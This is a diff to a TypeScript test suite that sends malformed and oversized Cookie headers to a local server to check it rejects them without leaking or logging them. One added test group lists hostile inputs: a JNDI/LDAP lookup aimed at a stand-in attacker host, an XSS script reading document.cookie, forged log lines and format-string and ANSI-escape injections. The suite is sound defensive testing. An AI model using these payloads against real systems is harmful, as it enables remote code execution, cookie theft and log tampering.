@@ -25,6 +25,8 @@ interface Answer {
   /** Everything the server sent, head and body. */
   readonly raw: string
   readonly body: string
+  /** What the live session reads over the same connection, where there is one. */
+  readonly sameConnection?: () => Promise<string>
 }
 
 /** Sends `GET /read` under the bytes of a `Cookie` header. Undefined where the client's side refuses to. */
@@ -43,21 +45,48 @@ const utf8 = (text: string) => Buffer.from(text, "utf8")
 // transports
 // ---------------------------------------------------------------------------
 
+const getRead = (headers: ReadonlyArray<Buffer>) =>
+  Buffer.concat([
+    latin1("GET /read HTTP/1.1\r\nHost: x\r\n"),
+    ...headers.flatMap((header) => [latin1("Cookie: "), header, latin1("\r\n")]),
+    latin1("\r\n")
+  ])
+
+/** A response that has come whole, as the platform writes them: with its length. */
+const wholeAnswer = (raw: string): Answer | undefined => {
+  const end = raw.indexOf("\r\n\r\n")
+  const length = /^content-length: (\d+)/im.exec(raw.slice(0, end))?.[1]
+  const body = raw.slice(end + 4)
+  return end === -1 || length === undefined || body.length < Number(length)
+    ? undefined
+    : { status: Number(raw.slice(9, 12)), raw, body }
+}
+
 const overTcp = (port: number): Transport => (headers) =>
   new Promise((resolve, reject) => {
-    const lines = headers.flatMap((header) => [latin1("Cookie: "), header, latin1("\r\n")])
-    const socket = net.connect(port, "127.0.0.1", () => {
-      socket.write(
-        Buffer.concat([latin1("GET /read HTTP/1.1\r\nHost: x\r\nConnection: close\r\n"), ...lines, latin1("\r\n")])
-      )
+    const socket = net.connect(port, "127.0.0.1", () => socket.write(getRead(headers)))
+    let raw = ""
+    let answered = (answer: Answer) => {
+      const canary = new Promise<string>((resolve) => {
+        answered = ({ body }) => resolve(body)
+      })
+      const sameConnection = () => {
+        socket.write(getRead([id(live)]))
+        return canary.finally(() => socket.destroy())
+      }
+      resolve({ ...answer, sameConnection })
+    }
+    socket.on("data", (chunk) => {
+      raw += chunk.toString("latin1")
+      const answer = wholeAnswer(raw)
+      if (answer !== undefined) {
+        raw = ""
+        answered(answer)
+      }
     })
-    const chunks: Array<Buffer> = []
-    socket.on("data", (chunk) => chunks.push(chunk))
-    socket.on("error", (error) => chunks.length > 0 ? undefined : reject(error))
-    socket.on("close", () => {
-      const raw = Buffer.concat(chunks).toString("latin1")
-      resolve({ status: Number(raw.slice(9, 12)), raw, body: raw.slice(raw.indexOf("\r\n\r\n") + 4) })
-    })
+    socket.on("error", (error) => raw !== "" ? undefined : reject(error))
+    // the server's own refusals have no length, and end the connection
+    socket.on("close", () => answered({ status: Number(raw.slice(9, 12)), raw, body: "" }))
   })
 
 const overHttp2 = (connect: () => http2.ClientHttp2Session): Transport => (headers) =>
@@ -195,6 +224,9 @@ const check = async (name: string, headers: ReadonlyArray<Buffer>, expected: Exp
     expect([where, answer.status, answer.body]).toEqual([where, 200, expected.body])
     expect([where, operations]).toEqual([where, Array(expected.loads).fill("load")])
     expect(answer.raw.toLowerCase()).not.toContain("set-cookie")
+    if (answer.sameConnection !== undefined) {
+      expect([where, await answer.sameConnection()]).toEqual([where, "1"])
+    }
     const told = [...observed.logs.slice(logs), ...observed.spans.slice(spans), answer.raw].join("\n")
     for (const header of headers) {
       for (const text of [header.toString("latin1"), header.toString("utf8")]) {
@@ -218,6 +250,7 @@ const group = (
   cases: () => Iterable<readonly [name: string, header: Buffer | ReadonlyArray<Buffer>, Expected]>
 ) =>
   it(title, async () => {
+    const before = await Effect.runPromise(probe.records)
     let sent = 0
     let delivered = 0
     for (const [name, header, expected] of cases()) {
@@ -226,7 +259,9 @@ const group = (
     }
     expect(sent).toBeGreaterThan(0)
     expect(delivered).toBeGreaterThan(0)
-    // the canary is as it was, and every server still answers
+    // every record is as it was, there are no new ones, and every server still answers
+    expect(await Effect.runPromise(probe.records)).toEqual(before)
+    expect(Object.keys(before)).toHaveLength(2)
     expect(await check("canary", [id(live)], signedIn)).toBe(3)
   }, 60_000)
 
@@ -238,7 +273,7 @@ describe("Cookie headers", () => {
     ["no cookie", cookie("a=b"), anonymous]
   ])
 
-  group("H-01: oversize", () => [
+  group("H-01 OW-12: oversize", () => [
     ...[0, 1, 53, 55, 4096, 4097, 8192, 15 * 1024, 16 * 1024 - 1, 16 * 1024 + 1, 64 * 1024, 1024 * 1024].map((size) =>
       [`a value of ${size}`, id("A".repeat(size)), anonymous] as const
     ),
@@ -338,7 +373,7 @@ describe("Cookie headers", () => {
     ["REG-C7 only unprefixed", [`id=${live}`, `__Secure-id=${live}`], anonymous]
   ]
 
-  group("H-06 RFC-13: duplicates, in either order", () =>
+  group("H-06 RFC-13 REG-C7: duplicates, in either order", () =>
     tossed().flatMap(([name, cookies, expected]) => [
       [name, cookie(cookies.join("; ")), expected] as const,
       [`${name}, reversed`, cookie([...cookies].reverse().join("; ")), expected] as const
@@ -404,7 +439,7 @@ describe("Cookie headers", () => {
     ["encoded after", id(`${live}%00%00`), anonymous]
   ])
 
-  group("H-12: special values", () =>
+  group("H-12 REG-A10 OW-12: special values", () =>
     [
       "",
       "undefined",
@@ -433,7 +468,22 @@ describe("Cookie headers", () => {
       [`a cookie named ${value}`, cookie(`${value}=${value}; __Host-id=${live}`), signedIn] as const
     ]))
 
-  group("gate 7: one spelling of an id", () => {
+  group("H-37: what would break into a log", () =>
+    [
+      "\\u001b[31mred",
+      "%1b%5b31m-ANSI-ESCAPES",
+      "%0a{\"level\":\"FATAL\",\"forged\":true}",
+      "\"},{\"level\":\"FATAL\"},{\"",
+      "%s%n%x%d%p-format-string",
+      "${jndi:ldap://evil.test/a}",
+      "<script>alert(document.cookie)</script>",
+      `long-${"A".repeat(1_000_000)}`
+    ].flatMap((value) => [
+      [value.slice(0, 30), id(value), anonymous] as const,
+      [`a cookie named ${value.slice(0, 30)}`, cookie(`${value}=v; __Host-id=${live}`), signedIn] as const
+    ]))
+
+  group("OW-12: one spelling of an id", () => {
     const alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_"
     const last = alphabet.indexOf(live.at(-1)!)
     // 40 bytes leave four bits of the last letter unread: 15 more spellings of the same bytes
